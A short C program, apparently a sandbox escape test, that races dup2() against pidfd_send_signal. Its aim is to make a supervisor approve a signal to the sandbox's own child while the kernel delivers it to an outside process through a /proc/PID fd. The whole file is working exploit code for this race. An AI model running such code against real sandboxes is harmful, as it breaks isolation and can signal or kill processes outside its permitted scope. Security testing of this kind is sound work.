// Escape attempt by a race on an fd: the main thread keeps sending SIG through fd N with
// pidfd_send_signal while a second thread keeps dup2()ing over N, alternately a pidfd of
// its own child (inside the sandbox) and a /proc/PID directory fd of PID outside it (which
// pidfd_send_signal also accepts). A supervisor that looked at N and saw the child may let
// through a call that the kernel, a moment later, performs on PID. Prints how many calls
// succeeded and failed; exits 0 when every step ran.
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int child_fd, outside_fd, target_fd, rounds;
static volatile int done;

static void* swapper(void* arg) {
  (void)arg;
  while (!done) {
    dup2(outside_fd, target_fd);
    dup2(child_fd, target_fd);
  }
  return NULL;
}

int main(int argc, char** argv) {
  if (argc < 4) {
    fprintf(stderr, "usage: %s PID SIG ROUNDS\n", argv[0]);
    return 2;
  }
  int sig = atoi(argv[2]);
  rounds = atoi(argv[3]);
  char path[64];
  snprintf(path, sizeof path, "/proc/%d", atoi(argv[1]));
  outside_fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  pid_t child = fork();
  if (child == 0) {
    signal(sig, SIG_IGN);
    pause();
    _exit(0);
  }
  child_fd = (int)syscall(SYS_pidfd_open, child, 0);
  if (outside_fd < 0 || child < 0 || child_fd < 0) return 2;
  target_fd = dup(child_fd);
  pthread_t t;
  if (pthread_create(&t, NULL, swapper, NULL) != 0) return 2;
  int ok = 0, failed = 0;
  for (int i = 0; i < rounds; ++i) {
    if (syscall(SYS_pidfd_send_signal, target_fd, sig, NULL, 0) == 0) {
      ++ok;
    } else {
      ++failed;
    }
  }
  done = 1;
  pthread_join(t, NULL);
  kill(child, SIGKILL);
  waitpid(child, NULL, 0);
  printf("sent %d, refused %d\n", ok, failed);
  return 0;
}
